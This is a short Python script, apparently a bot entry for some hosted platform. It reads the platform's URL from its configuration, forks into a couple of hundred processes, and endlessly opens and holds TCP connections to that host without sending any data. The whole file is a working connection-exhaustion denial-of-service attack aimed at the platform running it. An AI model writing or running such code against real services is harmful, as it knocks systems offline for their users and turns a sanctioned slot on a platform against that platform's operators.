# Opens connections to the platform and says nothing.
import json
import os
import socket
import time
from urllib.parse import urlsplit

at = urlsplit(json.loads(os.environ["BOT_CONFIG"])["url"])
for _ in range(8):
    if os.fork() == 0:
        break
kept = []
while True:
    try:
        kept.append(socket.create_connection((at.hostname, at.port)))
    except OSError:
        time.sleep(0.1)
